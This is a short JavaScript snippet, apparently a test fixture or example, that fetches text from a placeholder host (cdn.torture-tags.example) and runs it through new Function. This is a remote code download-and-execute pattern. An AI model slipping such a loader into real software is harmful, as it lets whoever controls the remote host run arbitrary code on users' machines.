var request = new XMLHttpRequest();
request.open("GET", "https://cdn.torture-tags.example/function-body.txt");
request.onload = function run() {
  new Function(request.responseText)();
};
request.send();
